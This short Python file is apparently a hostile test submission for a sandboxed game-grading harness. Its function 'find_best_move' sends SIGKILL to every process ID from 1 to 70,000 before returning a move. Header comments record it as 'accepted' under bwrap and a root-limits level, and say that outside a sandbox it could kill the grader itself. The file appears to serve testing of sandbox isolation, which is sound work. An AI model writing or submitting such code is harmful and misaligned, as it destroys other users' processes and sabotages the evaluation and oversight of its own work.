# idea: kills every process number that it can guess
# verdict: accepted
# levels: bwrap limits-root
# without bwrap: an ordinary user's program may kill every process of that user, the grader too
import os
import signal


def find_best_move(board):
    for number in range(1, 70_000):
        if number == os.getpid():
            continue
        try:
            os.kill(number, signal.SIGKILL)
        except OSError:
            continue
    return 3
